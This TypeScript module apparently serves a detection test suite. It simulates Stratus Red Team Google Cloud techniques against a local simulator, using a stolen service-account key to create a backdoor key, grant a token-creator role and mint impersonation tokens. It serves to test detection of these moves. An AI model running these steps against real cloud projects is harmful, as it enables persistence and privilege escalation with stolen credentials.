import { auth, iam, type iam_v1 } from '@googleapis/iam';
import { SignJWT } from 'jose';
import { createPrivateKey } from 'node:crypto';
import type { GcpKeyFile } from './key-file.js';
import type { GcpSimulator } from './server.js';

/**
 * The attacker's moves against the sandbox, as Stratus Red Team detonates them against Google Cloud, with only a
 * stolen key file in hand. Every call goes through the real client libraries (or, for the IAM Credentials API and
 * the token endpoint, plain HTTP with the library's own auth headers) to the simulator, so its audit log records
 * them as Google would: the sweep and the watch then have something true to find.
 *
 * - `gcp.persistence.create-service-account-key`: create a new key on a service account (createServiceAccountKey).
 * - Impersonation, the follow-up Stratus's `gcp.privilege-escalation.impersonate-service-accounts` relies on: grant
 *   roles/iam.serviceAccountTokenCreator on a service account to a member (grantTokenCreator), then mint an access
 *   token for it (generateAccessToken). The token lives an hour whatever happens to the key that minted it.
 */

export const TECHNIQUE = 'gcp.persistence.create-service-account-key';
const CLOUD_PLATFORM = 'https://www.googleapis.com/auth/cloud-platform';

/** What the attacker authenticates with: a key file (self-signed JWTs) or an OAuth access token. */
export type AttackerCredential = { keyFile: GcpKeyFile } | { accessToken: string };

function authOf(credential: AttackerCredential) {
  if ('accessToken' in credential) {
    const client = new auth.OAuth2();
    client.setCredentials({ access_token: credential.accessToken });
    return client;
  }
  const googleAuth = new auth.GoogleAuth({ credentials: credential.keyFile, scopes: [CLOUD_PLATFORM] });
  googleAuth.useJWTAccessWithScope = true;
  return googleAuth;
}

/** An IAM v1 client acting as the credential, pointed at the simulator. */
export function attackerIam(sim: Pick<GcpSimulator, 'rootUrl'>, credential: AttackerCredential): iam_v1.Iam {
  return iam({ version: 'v1', auth: authOf(credential), rootUrl: sim.rootUrl, retry: false });
}

const accountName = (email: string) => `projects/-/serviceAccounts/${email}`;

/**
 * Stratus `gcp.persistence.create-service-account-key`: a new user-managed key on `email` (default: the stolen key's
 * own account), made with the stolen key. Returns the new key's name and its key file, the attacker's backdoor.
 */
export async function createServiceAccountKey(
  sim: Pick<GcpSimulator, 'rootUrl'>,
  stolen: AttackerCredential & { keyFile: GcpKeyFile },
  email: string = stolen.keyFile.client_email,
): Promise<{ keyName: string; keyFile: GcpKeyFile }> {
  const { data } = await attackerIam(sim, stolen).projects.serviceAccounts.keys.create({
    name: accountName(email),
    requestBody: {},
  });
  if (!data.name || !data.privateKeyData) throw new Error('keys.create answered without a key');
  const keyFile = JSON.parse(Buffer.from(data.privateKeyData, 'base64').toString('utf8')) as GcpKeyFile;
  return { keyName: data.name, keyFile };
}

/**
 * Grants `role` (default roles/iam.serviceAccountTokenCreator) on service account `email` to `member`, by
 * read-modify-write of the account's policy, optionally with a condition (then at policy version 3).
 */
export async function grantTokenCreator(
  sim: Pick<GcpSimulator, 'rootUrl'>,
  credential: AttackerCredential,
  email: string,
  member: string,
  options: { role?: string; condition?: { title: string; expression: string; description?: string } } = {},
): Promise<iam_v1.Schema$Policy> {
  const accounts = attackerIam(sim, credential).projects.serviceAccounts;
  const resource = accountName(email);
  const { data: policy } = await accounts.getIamPolicy({ resource, 'options.requestedPolicyVersion': 3 });
  const role = options.role ?? 'roles/iam.serviceAccountTokenCreator';
  const bindings = [
    ...(policy.bindings ?? []),
    { role, members: [member], ...(options.condition ? { condition: options.condition } : {}) },
  ];
  const version = options.condition || bindings.some((b) => b.condition) ? 3 : (policy.version ?? 1);
  const { data } = await accounts.setIamPolicy({
    resource,
    requestBody: { policy: { bindings, etag: policy.etag ?? null, version } },
  });
  return data;
}

/** The headers a credential sends, for the calls below that go through plain HTTP. */
function authorization(credential: AttackerCredential, url: string): Promise<Headers> {
  if ('accessToken' in credential) {
    return Promise.resolve(new Headers({ authorization: `Bearer ${credential.accessToken}` }));
  }
  return authOf(credential).getRequestHeaders(url);
}

/**
 * IAM Credentials `generateAccessToken` for `email`, with the credential's token creator grant: an OAuth access
 * token acting as the account, valid `lifetimeSeconds` (default 3600).
 */
export async function generateAccessToken(
  sim: Pick<GcpSimulator, 'rootUrl'>,
  credential: AttackerCredential,
  email: string,
  lifetimeSeconds?: number,
): Promise<{ accessToken: string; expireTime: string }> {
  const url = `${sim.rootUrl}v1/${accountName(email)}:generateAccessToken`;
  const headers = await authorization(credential, url);
  headers.set('content-type', 'application/json');
  const response = await fetch(url, {
    method: 'POST',
    headers,
    body: JSON.stringify({
      scope: [CLOUD_PLATFORM],
      ...(lifetimeSeconds === undefined ? {} : { lifetime: `${lifetimeSeconds}s` }),
    }),
  });
  const body = (await response.json()) as { accessToken?: string; expireTime?: string; error?: { message?: string } };
  if (!response.ok || !body.accessToken || !body.expireTime) {
    throw new GenerateAccessTokenError(response.status, body.error?.message ?? response.statusText);
  }
  return { accessToken: body.accessToken, expireTime: body.expireTime };
}

export class GenerateAccessTokenError extends Error {
  override readonly name = 'GenerateAccessTokenError';
  constructor(
    readonly status: number,
    message: string,
  ) {
    super(`generateAccessToken: HTTP ${status}: ${message}`);
  }
}

/**
 * The OAuth token endpoint's JWT-bearer grant with a key file, as google-auth-library does for a key file without
 * useJWTAccessWithScope: an access token acting as the key's account, recorded against the key.
 */
export async function exchangeKeyForToken(
  sim: Pick<GcpSimulator, 'rootUrl'>,
  keyFile: GcpKeyFile,
): Promise<{ accessToken: string; expiresIn: number }> {
  const now = Math.floor(Date.now() / 1000);
  const assertion = await new SignJWT({ scope: CLOUD_PLATFORM })
    .setProtectedHeader({ alg: 'RS256', kid: keyFile.private_key_id })
    .setIssuer(keyFile.client_email)
    .setAudience(keyFile.token_uri)
    .setIssuedAt(now)
    .setExpirationTime(now + 3600)
    .sign(createPrivateKey(keyFile.private_key));
  const response = await fetch(`${sim.rootUrl}token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ grant_type: 'urn:ietf:params:oauth:grant-type:jwt-bearer', assertion }).toString(),
  });
  const body = (await response.json()) as { access_token?: string; expires_in?: number; error_description?: string };
  if (!response.ok || !body.access_token)
    throw new Error(`token endpoint: HTTP ${response.status}: ${body.error_description ?? ''}`);
  return { accessToken: body.access_token, expiresIn: body.expires_in ?? 0 };
}

/**
 * "Use the stolen credential": one read with it (serviceAccounts.get on `email`, default its own account), the call
 * a watch after containment must see. Resolves to the HTTP status, whether Google allowed it or not.
 */
export async function useCredential(
  sim: Pick<GcpSimulator, 'rootUrl'>,
  credential: AttackerCredential,
  email?: string,
): Promise<number> {
  const own = 'keyFile' in credential ? credential.keyFile.client_email : undefined;
  const target = email ?? own;
  if (!target) throw new Error('useCredential: name the account to read with an access token');
  try {
    return (await attackerIam(sim, credential).projects.serviceAccounts.get({ name: accountName(target) })).status;
  } catch (error) {
    const status = (error as { status?: number; response?: { status?: number } }).response?.status;
    if (status === undefined) throw error;
    return status;
  }
}

/**
 * The whole detonation, as an incident begins: with the stolen key, a new key on its own account, then
 * roles/iam.serviceAccountTokenCreator on `impersonate` granted to the stolen account, and an access token minted
 * for it. What it planted, for the test to look for.
 */
export async function detonate(
  sim: Pick<GcpSimulator, 'rootUrl'>,
  stolen: GcpKeyFile,
  impersonate: string,
): Promise<{ newKeyName: string; newKeyFile: GcpKeyFile; member: string; accessToken: string; expireTime: string }> {
  const credential = { keyFile: stolen };
  const created = await createServiceAccountKey(sim, credential);
  const member = `serviceAccount:${stolen.client_email}`;
  await grantTokenCreator(sim, credential, impersonate, member);
  const token = await generateAccessToken(sim, credential, impersonate);
  return { newKeyName: created.keyName, newKeyFile: created.keyFile, member, ...token };
}
